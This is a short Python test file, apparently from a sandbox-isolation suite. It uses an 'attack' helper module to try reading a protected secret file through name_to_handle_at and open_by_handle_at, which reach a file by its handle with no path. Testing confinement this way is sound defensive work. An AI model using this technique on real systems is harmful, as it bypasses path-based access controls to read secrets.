"""A file is opened by its handle, without any path."""

import os
import struct

from attack import AT_FDCWD, WORLD, buffer, leaked, read, syscall, tries

with tries():
    handle, mount = buffer(struct.pack("Ii", 128, 0), 136), buffer(b"", 4)
    syscall("name_to_handle_at", AT_FDCWD, WORLD.secret.encode(), handle, mount, 0)
    leaked(read(syscall("open_by_handle_at", os.open(".", os.O_RDONLY), handle, os.O_RDONLY)))
